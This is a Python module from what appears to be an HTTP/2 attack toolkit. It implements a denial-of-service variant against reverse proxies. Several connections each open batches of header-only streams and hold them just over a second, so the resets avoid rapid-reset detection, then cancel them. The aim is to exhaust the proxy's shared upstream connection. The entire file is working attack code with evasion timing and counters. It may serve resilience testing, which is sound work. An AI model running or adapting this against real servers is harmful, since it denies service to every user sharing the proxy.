"""Calls that occupy the one connection that a proxy has to the server, which it shares with others.

Each is well within what the proxy allows on a connection of its client: it sends its headers and no
request, and is reset when it is old enough not to count as reset at once.
"""

from __future__ import annotations

import sys
import time
from contextlib import ExitStack, suppress

from attacks.a02_rapid_reset import CANCEL, blocks_of
from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import RST_STREAM, call, connected, drain, frame

_CONNECTIONS, _CALLS = 8, 15
_AGE_S = 1.2


def _strike(target: Target, begin: Begin) -> Counts:
    blocks = blocks_of(target)
    calls = connections = 0
    until = begin()
    while time.monotonic() < until:
        with ExitStack() as stack, suppress(OSError):
            held = [stack.enter_context(connected(target.place)) for _ in range(_CONNECTIONS)]
            connections += len(held)
            first = 1
            while time.monotonic() < until and all(map(drain, held)):
                streams = range(first, first + 2 * _CALLS, 2)
                first = streams.stop
                for connection in held:
                    connection.sendall(
                        b"".join(call(one, blocks[one % len(blocks)], None) for one in streams)
                    )
                calls += len(held) * len(streams)
                time.sleep(_AGE_S)
                for connection in held:
                    connection.sendall(b"".join(frame(RST_STREAM, 0, s, CANCEL) for s in streams))
    return {"calls": calls, "connections": connections}


ATTACK = Attack("half-open calls on a shared connection", _strike, needs_proxy=True)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
